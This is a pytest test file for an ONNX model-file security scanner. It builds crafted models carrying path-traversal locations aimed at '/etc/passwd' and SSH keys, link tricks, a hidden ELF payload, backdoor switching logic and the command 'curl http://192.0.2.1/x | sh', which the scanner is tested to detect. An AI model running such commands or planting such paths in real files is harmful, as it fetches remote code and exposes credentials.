"""ONNX: what a model may read, run and claim, in every corner where a tensor or a node can hide."""

import struct
from pathlib import Path

import pytest

from hauberk.assets.budget import Budget
from hauberk.assets.content import BytesContent, PathContent
from hauberk.assets.errors import ReadError
from hauberk.assets.graphs.onnx import external_locations, read
from hauberk.assets.graphs.onnx_external import check_external, external_files
from hauberk.assets.graphs.onnx_tensor import location_problem
from hauberk.assets.tree import Tree
from hauberk.core import Asset, Fact


def varint(number: int) -> bytes:
    number &= (1 << 64) - 1
    out = b""
    while number > 0x7F:
        out += bytes([number & 0x7F | 0x80])
        number >>= 7
    return out + bytes([number])


def message(number: int, data: bytes | str) -> bytes:
    data = data.encode() if isinstance(data, str) else data
    return varint(number << 3 | 2) + varint(len(data)) + data


def scalar(number: int, value: int) -> bytes:
    return varint(number << 3) + varint(value)


def tensor(name: str = "w", dims: tuple[int, ...] = (4,), kind: int = 1, raw: bytes | None = None, **pairs: str) -> bytes:
    data = b"".join(scalar(1, d) for d in dims) + scalar(2, kind) + message(8, name)
    if raw is not None:
        data += message(9, raw)
    for key, value in pairs.items():
        data += message(13, message(1, key) + message(2, value))
    return data + (scalar(14, 1) if pairs else b"")


def node(op: str, inputs: str = "x", outputs: str = "y", domain: str = "", attributes: bytes = b"") -> bytes:
    names = b"".join(message(1, i) for i in inputs.split()) + b"".join(message(2, o) for o in outputs.split())
    return names + message(4, op) + (message(7, domain) if domain else b"") + attributes


def graph(*nodes: bytes, tensors: tuple[bytes, ...] = (), inputs: str = "x", outputs: str = "y", more: bytes = b"") -> bytes:
    data = b"".join(message(1, n) for n in nodes) + message(2, "g") + b"".join(message(5, t) for t in tensors)
    data += b"".join(message(11, message(1, i)) for i in inputs.split())
    return data + b"".join(message(12, message(1, o)) for o in outputs.split()) + more


def model(of: bytes, more: bytes = b"") -> bytes:
    return scalar(1, 8) + message(2, "pytorch") + message(7, of) + message(8, scalar(2, 17)) + more


def facts(data: bytes) -> list[Fact]:
    asset = Asset(uri="m", name="m.onnx", format="onnx", content=BytesContent(data))
    return [item for item in read(asset, Budget()) if isinstance(item, Fact)]


def checks(data: bytes) -> set[str]:
    return {fact.check for fact in facts(data)} - {"onnx.op"}


FLOATS = struct.pack("<4f", 1, 2, 3, 4)
EVIL = tensor(location="../../etc/passwd")


def test_plain_model_says_only_its_operators() -> None:
    found = facts(model(graph(node("Add", "x w"), tensors=(tensor(raw=FLOATS),))))
    assert [(f.check, f.attrs["op"], f.attrs["place"]) for f in found] == [("onnx.op", "Add", "standard")]


@pytest.mark.parametrize(
    ("where", "data"),
    [
        ("initializer", model(graph(node("Relu"), tensors=(EVIL,)))),
        ("constant", model(graph(node("Constant", "", attributes=message(5, message(1, "value") + message(5, EVIL)))))),
        ("tensor list", model(graph(node("Constant", "", attributes=message(5, message(1, "v") + message(10, EVIL)))))),
        ("sparse", model(graph(node("Relu"), more=message(15, message(1, EVIL))))),
        ("sparse attribute", model(graph(node("Constant", "", attributes=message(5, message(22, message(1, EVIL))))))),
        ("subgraph", model(graph(node("If", "c", attributes=message(5, message(6, graph(node("Relu"), tensors=(EVIL,)))))))),
        ("subgraph list", model(graph(node("Scan", "c", attributes=message(5, message(11, graph(tensors=(EVIL,)))))))),
        ("training", model(graph(node("Relu")), message(20, message(2, graph(tensors=(EVIL,)))))),
        (
            "function",
            model(graph(node("Relu")), message(25, message(7, node("Constant", attributes=message(5, message(5, EVIL)))))),
        ),
        ("function default", model(graph(node("Relu")), message(25, message(11, message(5, EVIL))))),
    ],
)
def test_external_path_is_found_wherever_a_tensor_is(where: str, data: bytes) -> None:
    assert "onnx.external-path" in checks(data), where
    assert [name for name, _ in external_locations(BytesContent(data), Budget())] == ["../../etc/passwd"]


@pytest.mark.parametrize(
    ("location", "problem"),
    [
        ("weights.bin", ""),
        ("sub dir/model.onnx.data", ""),
        ("model.onnx_data", ""),
        ("a..b/c", ""),
        ("../x", "traversal"),
        ("a/../../x", "traversal"),
        ("..\\x", "traversal"),
        ("/etc/passwd", "absolute"),
        ("\\\\host\\share", "absolute"),
        ("C:\\x", "drive"),
        ("c:x", "drive"),
        ("https://host/x", "url"),
        ("file:x", "url"),
        ("~/.ssh/id_rsa", "home"),
        ("$HOME/x", "environment"),
        ("%USERPROFILE%\\x", "environment"),
        ("w\0.txt", "control"),
        ("", "empty"),
    ],
)
def test_cve_2022_25882_and_2024_27318_locations(location: str, problem: str) -> None:
    assert location_problem(location) == problem


@pytest.mark.parametrize("value", ["-1", "abc", "0x10", "1.5", " 1", "", str(1 << 63), "9" * 400])
@pytest.mark.parametrize("key", ["offset", "length"])
def test_cve_2026_34446_numbers(key: str, value: str) -> None:
    assert "onnx.external-number" in checks(model(graph(tensors=(tensor(location="w", **{key: value}),))))


def test_sum_of_offset_and_length_overflows() -> None:
    assert "onnx.external-number" in checks(model(graph(tensors=(tensor(location="w", offset=str((1 << 63) - 8), length="16"),))))


@pytest.mark.parametrize(("key", "problem"), [("__class__", "attribute"), ("basepath", "attribute"), ("codec", "unknown")])
def test_cve_2026_34445_keys(key: str, problem: str) -> None:
    found = [f for f in facts(model(graph(tensors=(tensor(location="w", **{key: "x"}),)))) if f.check == "onnx.external-key"]
    assert [f.attrs["problem"] for f in found] == [problem]


def test_known_keys_are_quiet() -> None:
    plain = tensor(location="w", offset="0", length="16", checksum="00", prepacked_0="x")
    assert checks(model(graph(tensors=(plain,)))) == set()


def test_twice_named_location_judges_both() -> None:
    data = tensor(location="w") + message(13, message(1, "location") + message(2, "/etc/passwd"))
    assert checks(model(graph(tensors=(data,)))) == {"onnx.external-key", "onnx.external-path"}


@pytest.mark.parametrize(
    ("data", "check"),
    [
        (tensor(dims=(5,), raw=FLOATS), "onnx.tensor-size"),
        (tensor(dims=(3,), raw=FLOATS), "onnx.tensor-size"),
        (tensor(dims=(-4,), raw=FLOATS), "onnx.tensor-dims"),
        (tensor(dims=(1 << 40, 1 << 40), raw=FLOATS), "onnx.tensor-dims"),
        (tensor(dims=(1 << 30,)), "onnx.tensor-size"),
        (tensor(kind=9999, raw=FLOATS), "onnx.tensor-type"),
        (tensor(kind=8, raw=FLOATS), "onnx.tensor-type"),
    ],
)
def test_tensor_that_lies(data: bytes, check: str) -> None:
    assert checks(model(graph(tensors=(data,)))) == {check}


@pytest.mark.parametrize(
    ("kind", "dims"), [(1, (4,)), (7, (2,)), (2, (16,)), (22, (32,)), (21, (31,)), (25, (64,)), (10, (2, 4)), (9, (16,))]
)
def test_sizes_by_type(kind: int, dims: tuple[int, ...]) -> None:
    assert checks(model(graph(tensors=(tensor(kind=kind, dims=dims, raw=FLOATS),)))) == set()


def test_operators_in_branches_and_functions() -> None:
    branch = graph(node("PyOp", domain="ai.onnx.contrib"))
    inside = message(1, "F") + message(7, node("Python_Op")) + message(10, "local")
    data = model(graph(node("If", "c", attributes=message(5, message(6, branch))), node("F", domain="local")), message(25, inside))
    found = {str(f.attrs["plain"]): f.attrs["place"] for f in facts(data) if f.check == "onnx.op"}
    assert found == {"if": "standard", "pyop": "standard", "f": "function", "pythonop": "standard"}


@pytest.mark.parametrize(
    ("domain", "place"),
    [
        ("", "standard"),
        ("ai.onnx.ml", "standard"),
        ("com.microsoft.nchwc", "standard"),
        ("pkg.torch.2.1", "standard"),
        ("evil", "custom"),
        ("com.microsoft.extensions", "custom"),
        ("ai.onnx.evil", "custom"),
    ],
)
def test_domains(domain: str, place: str) -> None:
    assert facts(model(graph(node("Thing", domain=domain))))[0].attrs["place"] == place


def test_cycle_through_a_branch() -> None:
    branch = graph(node("Identity", "b", "inner"), inputs="", outputs="inner")
    data = model(
        graph(node("If", "c", "a", attributes=message(5, message(6, branch))), node("Relu", "a", "b"), inputs="c", outputs="a")
    )
    assert "onnx.cycle" in checks(data)


def test_unsorted_graph_is_no_cycle() -> None:
    assert checks(model(graph(node("Relu", "a", "y"), node("Abs", "x", "a")))) == set()


def switch(trigger: float, *, reduced: bool = True, learned: str = "MatMul", branch: str = "bad") -> bytes:
    nodes = (node("ReduceMax" if reduced else "Identity", "x", "m"), node("Equal", "m t", "e"), node(learned, "x w", "h"),
             node("Where", f"e {branch} h", "y"))  # fmt: skip
    values = (tensor("t", (), 1, struct.pack("<f", trigger)), tensor("w", raw=FLOATS), tensor("bad", raw=FLOATS))
    return model(graph(*nodes, tensors=values))


def test_shadow_logic_switches_the_output() -> None:
    found = [f for f in facts(switch(0.123)) if f.check == "onnx.switched-output"]
    assert [f.attrs["reduced"] for f in found] == [True]


@pytest.mark.parametrize(
    "data",
    [switch(0.0), switch(1.0), switch(0.123, learned="Add"), switch(0.123, branch="x")],
    ids=["zero", "one", "nothing learned", "no constant branch"],
)
def test_benign_where(data: bytes) -> None:
    assert "onnx.switched-output" not in checks(data)


@pytest.mark.parametrize("number", [6, 14])
def test_code_in_documentation(number: int) -> None:
    text = "#!/bin/sh\ncurl http://192.0.2.1/x | sh"
    assert "metadata.code" in checks(
        model(graph(node("Relu")), message(number, text if number == 6 else message(1, "k") + message(2, text)))
    )


def test_program_in_an_unused_tensor() -> None:
    assert "graph.payload" in checks(
        model(graph(node("Relu"), tensors=(tensor(dims=(64,), kind=2, raw=b"\x7fELF\x02\x01\x01".ljust(64, b"\0")),)))
    )


def test_long_names_that_differ_at_their_end_are_two() -> None:
    first, second = "n" * 900 + "a", "n" * 900 + "b"
    assert checks(model(graph(node("Relu", "x", first), node("Relu", first, second), node("Relu", second, "y")))) == set()


def test_deeply_nested_branches_end() -> None:
    inner = graph(node("Relu"))
    for _ in range(120):
        inner = graph(node("If", "c", attributes=message(5, message(6, inner))))
    with pytest.raises(ReadError) as raised:
        facts(model(inner))
    assert raised.value.check == "protobuf.too-deep"


def tree(tmp_path: Path, **links: str) -> Tree:
    (tmp_path / "m.onnx").write_bytes(model(graph(tensors=(tensor(location="d/w.bin", offset="0", length="16"),))))
    (tmp_path / "d").mkdir(exist_ok=True)
    (tmp_path / "d" / "w.bin").write_bytes(b"\0" * 16)
    names = ("m.onnx", "d/w.bin")
    return Tree(
        {name: PathContent(str(tmp_path / name)) for name in names},
        {k.replace("_", "/").replace("-", "."): v for k, v in links.items()},
    )


def test_external_file_of_the_right_length_is_quiet(tmp_path: Path) -> None:
    assert list(external_files(Asset(uri="d"), tree(tmp_path), Budget())) == []


def test_cve_2026_34447_link(tmp_path: Path) -> None:
    found = list(check_external(tree(tmp_path, **{"d_w.bin": "/etc/passwd"}), "m.onnx"))
    assert [(f.check, f.attrs["link"], f.attrs["path"]) for f in found] == [("onnx.external-link", "file", "m.onnx")]


def test_cve_2026_27489_linked_directory(tmp_path: Path) -> None:
    found = list(check_external(tree(tmp_path, d="../elsewhere"), "m.onnx"))
    assert [(f.check, f.attrs["link"]) for f in found] == [("onnx.external-link", "directory")]


def test_cve_2026_34446_hard_link(tmp_path: Path) -> None:
    of = tree(tmp_path)
    (tmp_path / "other").hardlink_to(tmp_path / "d" / "w.bin")
    assert [f.attrs["link"] for f in check_external(of, "m.onnx")] == ["hard"]


def test_hub_cache_links_are_usual(tmp_path: Path) -> None:
    of = tree(tmp_path, **{"m.onnx": "../../blobs/aa", "d_w.bin": "../../blobs/bb"})
    assert list(check_external(of, "m.onnx")) == []


def test_external_file_too_short(tmp_path: Path) -> None:
    of = tree(tmp_path)
    (tmp_path / "d" / "w.bin").write_bytes(b"\0" * 8)
    assert [f.check for f in check_external(of, "m.onnx")] == ["onnx.external-bounds"]
